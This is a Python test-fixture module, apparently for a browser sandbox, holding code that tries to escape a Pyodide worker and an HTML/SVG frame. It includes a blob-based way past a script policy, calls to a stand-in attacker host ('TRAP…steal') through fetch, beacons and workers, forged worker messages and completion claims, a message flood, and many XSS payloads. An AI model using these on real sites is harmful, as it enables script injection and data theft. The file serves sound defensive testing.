"""Code that tries to get out of its worker, and HTML that tries to get out of its frame.

In each, TRAP is the address of a server of someone else's, and HOME that of the site.
"""
# ruff: noqa: E501 (a line is an attack)

# The policy lets no text be run as script; one of a blob is run.
RUN = """
import js
from pyodide.ffi import to_js

def run_js(code):
    js.importScripts(js.URL.createObjectURL(js.Blob.new(to_js([code]), type="text/javascript")))

run_js("self.works = 'runs'")
assert js.works == 'runs'
"""

# What is reached at once is written into `reached`; what answers later, the servers tell.
TRIES = (
    RUN
    + """
reached = []

def attempt(name, code):
    try:
        run_js(code)
        reached.append(name)
    except BaseException as error:
        print(name, type(error).__name__, str(error)[:60])

for where in ("TRAP", "HOME"):
    attempt("importScripts", f"importScripts('{where}steal.js')")
    attempt("request", f"const r = new XMLHttpRequest(); r.open('GET', '{where}steal', false); r.send()")
    attempt("storage", "localStorage.setItem('stolen', 1)")
    attempt("session", "sessionStorage.setItem('stolen', 1)")
    attempt("document", "document.body.append('stolen')")
    attempt("page", "parent.document.title = 'stolen'")
    attempt("navigation", f"location.href = '{where}steal'; if (location.protocol === 'blob:') throw Error()")
    attempt("window", f"open('{where}steal')")
    # what answers later is told by the servers
    for code in (
        f"eval('fetch(`{where}steal`)')",
        f"fetch('{where}steal')",
        f"self.constructor.prototype.fetch?.call(self, '{where}steal')",
        f"import('{where}steal.js')",
        f"new WebSocket('{where}steal'.replace('http', 'ws'))",
        f"new EventSource('{where}steal')",
        f"new WebTransport('{where}steal'.replace('http:', 'https:'))",
        f"new Worker('{where}steal.js')",
        f"new Worker(URL.createObjectURL(new Blob([`fetch('{where}steal'); importScripts('{where}steal.js')`])))",
        f"new Worker(URL.createObjectURL(new Blob([`import '{where}steal.js'`])), {{type: 'module'}})",
        f"navigator.sendBeacon('{where}steal')",
        f"navigator.serviceWorker.register('{where}steal.js')",
        f"new Image().src = '{where}steal'",
        f"new SharedWorker('{where}steal.js')",
        f"caches.open('stolen')",
        f"indexedDB.open('stolen')",
        "new BroadcastChannel('book').postMessage('stolen')",
    ):
        try:
            run_js(f"Promise.resolve({code}).catch(() => {{}})")
        except BaseException as error:
            print(code, type(error).__name__, str(error)[:60])

print("reached", reached)
"""
)

# Messages in the worker's name. Each is HTML, an unknown kind, or one for another.
FORGED = (
    RUN
    + """
import json

BAD = "<img src=x onerror='window.stolen=1'><script>window.stolen=1</script>"
run_js("self.post = text => { for (const each of JSON.parse(text)) postMessage(each) }")

def tell(**event):
    return {"type": "event", "text": json.dumps(event)}

js.post(json.dumps([
    tell(block=2, state=BAD, outputs=[{"kind": "text", "text": BAD}]),
    tell(block=1, state="green " + BAD, outputs=[{"kind": "error", "text": BAD, "message": BAD, "line": BAD}]),
    tell(block=2, outputs=[{"kind": "constructor"}, {"kind": "__proto__"}, 7, None, {"kind": "example", "error": BAD}]),
    tell(block=BAD, state="red"), tell(block=10**9, state="red", outputs=[]), tell(block=[0], outputs={}),
    tell(kind="equation", key=BAD, state="red", label=BAD, text=7), tell(kind=BAD, key={}, label=[BAD]),
    tell(page=BAD, block=0, state="red"), tell(page="second", kind=BAD, state="red"),
    {"type": "event", "text": "{"}, {"type": "event", "text": "null"}, {"type": "event", "text": {"block": 0}},
    {"type": "event"}, {"type": BAD}, {"type": "ended"}, {"ended": True}, None, BAD, 7, [], {"worker": 5, "message": {}},
    {"type": "answer", "id": 10**6, "text": '{"result": 1}'}, {"type": "answer", "text": "{"}, {"type": "answer"},
    {"type": "need", "group": "__proto__"}, {"type": "need", "group": BAD}, {"type": "need", "group": "../../x"},
    {"type": "ready"}, {"type": "need"}, {"image": [7]}, {"type": "answer", "image": [7]}, {"type": "image", "image": [7]},
]))
"""
)

# An exercise that nobody has solved, and some that there are not.
SOLVED = (
    RUN
    + """
import json

run_js("self.post = text => postMessage({ type: 'event', text })")
for key in ("KEY", "__proto__", "constructor", "unknown", "x" * 200_000):
    js.post(json.dumps({
        "kind": "exercise", "key": key, "state": "green", "counts": True, "digest": "0123456789abcdef", "summary": "Done.",
    }))
"""
)

FLOOD = (
    RUN
    + """
run_js("for (let n = 0; n < 1e6; n += 1) postMessage({type: 'event', text: '{}'})")
"""
)

# Each wants something to run, to be fetched, or to be led away from.
HTML = """
<script>parent.stolen = 1; fetch('TRAPscript')</script>
<script src="TRAPscript.js"></script>
<img src="TRAPimage" onerror="parent.stolen = 1"><img src="x:" onerror="top.stolen = 1">
<meta http-equiv="refresh" content="0;url=TRAPrefresh">
<iframe src="TRAPframe"></iframe><iframe srcdoc="<script>top.stolen = 1</script>"></iframe>
<iframe src="javascript:top.stolen=1"></iframe>
<object data="TRAPobject"></object><embed src="TRAPembed">
<link rel="stylesheet" href="TRAPsheet"><link rel="preconnect" href="TRAP">
<link rel="prefetch" href="TRAPprefetch"><link rel="dns-prefetch" href="TRAP">
<base href="TRAP" target="_top">
<form action="TRAPform" target="_top"><input autofocus onfocus="top.stolen = 1"><button id="send">Go</button></form>
<a id="away" target="_top" href="TRAPlink" ping="TRAPping">away</a>
<a id="here" href="TRAPlink">here</a><a id="code" href="javascript:top.stolen = 1">code</a>
<a id="home" href="HOMEsecond.html">home</a>
<style>@import url(TRAPimport); body { background: url(TRAPbackground) } @font-face { font-family: f; src: url(TRAPfont) }
* { font-family: f } article { background: url(HOMEsteal) }</style>
<video src="TRAPvideo" poster="TRAPposter" autoplay onloadstart="top.stolen = 1"></video><audio src="TRAPaudio" autoplay></audio>
<details open ontoggle="top.stolen = 1"><summary>s</summary></details>
<template shadowrootmode="open"><link rel="preconnect" href="TRAP"><script>top.stolen = 1</script></template>
<math><mtext><table><mglyph><style><img src="TRAPmath" onerror="top.stolen = 1"></style></mglyph></table></mtext></math>
<p id="seen">It is here.</p>
"""
SVG = """<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="top.stolen = 1"
  viewBox="0 0 9 9" width="90" height="90">
<script>top.stolen = 1; fetch('TRAPscript')</script><script href="TRAPscript.js"/>
<image href="TRAPimage" width="9" height="9" onerror="top.stolen = 1"/><image xlink:href="TRAPimage" width="9" height="9"/>
<use href="TRAPuse.svg#a"/><use xlink:href="data:image/svg+xml,&lt;svg id='a' onload='top.stolen=1'/&gt;#a"/>
<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="TRAPframe"></iframe>
<img src="x:" onerror="top.stolen = 1"/></body></foreignObject>
<a href="#x"><animate attributeName="href" values="javascript:top.stolen=1;TRAPlink" begin="0s" fill="freeze"/><rect
  id="drawn" width="9" height="9"/></a>
<a xlink:href="TRAPlink" target="_top"><circle id="led" r="4"/></a>
<filter id="f"><feImage href="TRAPfilter"/></filter><rect filter="url(#f)" fill="url(TRAPfill#a)" width="9" height="9"/>
<style>@import url(TRAPimport); rect { mask: url(TRAPmask#a) }</style><set attributeName="onload" to="top.stolen=1"/>
</svg>"""
